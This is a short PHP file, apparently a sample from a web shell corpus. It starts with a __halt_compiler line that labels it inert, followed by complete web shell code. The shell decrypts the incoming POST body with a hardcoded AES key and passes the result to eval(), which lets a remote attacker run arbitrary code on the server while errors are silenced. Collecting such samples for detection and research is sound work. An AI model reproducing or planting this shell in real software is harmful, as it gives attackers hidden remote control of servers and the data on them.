<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
@error_reporting(0);
session_start();
    $key="42519bf62ce0664e";
    $_SESSION['k']=$key;
    session_write_close();
    $post=file_get_contents("php://input");
    
    {
        $post=openssl_decrypt($post, "AES128", $key);
    }
    $arr=explode('|',$post);
    $func=$arr[0];
    $params=$arr[1];
    class C{public function __invoke($p) {eval($p."");}}
    @call_user_func(new C(),$params);
?>